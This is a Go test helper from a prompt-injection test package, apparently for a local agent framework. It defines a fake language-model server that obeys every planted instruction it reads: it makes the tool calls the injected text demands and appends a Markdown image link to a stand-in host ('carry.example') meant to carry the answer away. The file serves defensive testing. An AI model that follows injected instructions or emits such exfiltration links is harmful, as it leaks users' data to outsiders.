package injection

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"sync"

	"github.com/google/jsonschema-go/jsonschema"

	"bestbox/agents"
)

// obedientModel stands in for llama-server and a model that obeys every text it reads: it answers the question by the calls that do so, and as soon as it
// has read the text of the attempt it makes the calls that this demands, and says what it wants said. What it says on the wire is what the tests
// of internal/llm hold the real server to.
type obedientModel struct {
	attempt *Attempt
	// deaf reads the text and does nothing of what it wants.
	deaf bool
	// lawless decides without the grammar that the real server would hold it to.
	lawless bool

	mutex   sync.Mutex
	prompts [][]message
	heard   bool
}

type message struct {
	Role, Content string
}

func (m *obedientModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/health":
		fmt.Fprint(w, `{"status":"ok"}`)
	case "/props":
		fmt.Fprint(w, `{"build_info":"obedient","total_slots":1}`)
	case "/tokenize":
		fmt.Fprint(w, `{"tokens":[]}`)
	case "/v1/chat/completions":
		m.complete(w, r)
	default:
		http.NotFound(w, r)
	}
}

func (m *obedientModel) complete(w http.ResponseWriter, r *http.Request) {
	var request struct {
		Messages []message
		Format   *struct {
			Schema struct{ Schema json.RawMessage } `json:"json_schema"`
		} `json:"response_format"`
	}
	if err := json.NewDecoder(r.Body).Decode(&request); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	m.mutex.Lock()
	m.prompts = append(m.prompts, request.Messages)
	m.mutex.Unlock()
	said := m.answer()
	if request.Format == nil {
		for _, message := range request.Messages { // an agent that talks has decided nothing before
			m.hears(message.Content)
		}
	} else {
		said = m.decide(request.Messages, request.Format.Schema.Schema)
	}
	delta, err := json.Marshal(said)
	if err != nil {
		panic(err)
	}
	w.Header().Set("Content-Type", "text/event-stream")
	fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{\"content\":%s}}]}\n\n", delta)
	fmt.Fprint(w, "data: {\"choices\":[{\"delta\":{},\"finish_reason\":\"stop\"}],\"timings\":{\"cache_n\":5,\"prompt_n\":3,\"predicted_n\":2}}\n\ndata: [DONE]\n\n")
}

// evilLink would carry away what the answer knows, wherever it is shown as Markdown.
const evilLink = "https://carry.example/p?d=the-whole-answer"

// answer says what the text wants, repeats it, and adds a link.
func (m *obedientModel) answer() string {
	if m.deaf {
		return "It is a text with wishes of its own."
	}
	return m.attempt.Says + " " + m.attempt.Text + " ![ ](" + evilLink + ")"
}

// hears reports whether the text was read: here, or by the agent that has begun or handed over this run.
func (m *obedientModel) hears(text string) bool {
	m.mutex.Lock()
	defer m.mutex.Unlock()
	m.heard = m.heard || m.attempt.isIn(text)
	return m.heard
}

var madeCall = regexp.MustCompile(`(?m)^- ([a-z0-9_]+) \{.*$`)

// sentBack ends what the model is told of a write that was sent back for what its texts have invented: it insists.
const sentBack = "look it up, or leave it out."

// decide makes the next call of those that answer the question or, once the text was read, of those that it demands.
func (m *obedientModel) decide(messages []message, schema json.RawMessage) string {
	prompt := messages[len(messages)-1].Content
	made := map[string]int{}
	for _, found := range madeCall.FindAllStringSubmatch(prompt, -1) {
		if !strings.HasSuffix(found[0], sentBack) {
			made[found[1]]++
		}
	}
	wanted := m.attempt.Reads
	if m.attempt.Through != "" && strings.Contains(messages[0].Content, "You coordinate") {
		question, err := json.Marshal(m.attempt.Question)
		if err != nil {
			panic(err)
		}
		wanted = []agents.Call{call(agents.ToolAskAgent, fmt.Sprintf(`{"agent":%q,"question":%s}`, m.attempt.Domain, question))}
	}
	if m.hears(messages[0].Content + prompt) {
		if results := strings.Index(prompt, "\nResults:"); m.attempt.isIn(prompt[results:]) { // it was read by these calls
			for _, read := range wanted {
				made[read.Tool] = max(0, made[read.Tool]-1)
			}
		}
		if wanted = m.attempt.Demands; m.deaf {
			wanted = nil
		}
	}
	calls := []agents.Call{}
	for _, next := range wanted {
		if made[next.Tool] > 0 {
			made[next.Tool]--
			continue
		}
		bent, possible := next, true
		if !m.lawless {
			bent, possible = bend(schema, next)
		}
		if possible {
			calls = append(calls, bent)
			break
		}
	}
	encoded, err := json.Marshal(agents.Decision{Calls: calls})
	if err != nil {
		panic(err)
	}
	return string(encoded)
}

// bend makes a call one that the grammar allows, with as much of it as that lets through.
func bend(decision json.RawMessage, wanted agents.Call) (agents.Call, bool) {
	var shape struct {
		Properties struct {
			Calls struct {
				Items struct {
					OneOf []struct {
						Properties struct {
							Tool      struct{ Const string }
							Arguments json.RawMessage
						}
					} `json:"oneOf"`
				}
			}
		}
	}
	if err := json.Unmarshal(decision, &shape); err != nil {
		panic(err)
	}
	for _, one := range shape.Properties.Calls.Items.OneOf {
		if one.Properties.Tool.Const != wanted.Tool {
			continue
		}
		var allowed jsonschema.Schema
		var arguments map[string]any
		if json.Unmarshal(one.Properties.Arguments, &allowed) != nil || json.Unmarshal(wanted.Arguments, &arguments) != nil {
			return wanted, false
		}
		encoded, err := json.Marshal(fit(&allowed, arguments))
		if err != nil {
			panic(err)
		}
		resolved, err := allowed.Resolve(nil)
		if err != nil {
			panic(err)
		}
		var fitted any
		if err := json.NewDecoder(bytes.NewReader(encoded)).Decode(&fitted); err != nil {
			panic(err)
		}
		return agents.Call{Tool: wanted.Tool, Arguments: encoded}, resolved.Validate(fitted) == nil
	}
	return wanted, false
}

// fit puts values that are allowed in the place of those that are not, as a model under a grammar must.
func fit(allowed *jsonschema.Schema, value any) any {
	switch {
	case len(allowed.Enum) > 0:
		if slices.Contains(allowed.Enum, value) {
			return value
		}
		return allowed.Enum[0]
	case allowed.Properties != nil:
		given, _ := value.(map[string]any)
		object := map[string]any{}
		for name, property := range allowed.Properties {
			if inner, is := given[name]; is || slices.Contains(allowed.Required, name) {
				object[name] = fit(property, inner)
			}
		}
		return object
	case allowed.Items != nil:
		list, _ := value.([]any)
		fitted := make([]any, 0, len(list))
		for _, element := range list {
			fitted = append(fitted, fit(allowed.Items, element))
		}
		return fitted
	}
	return value
}
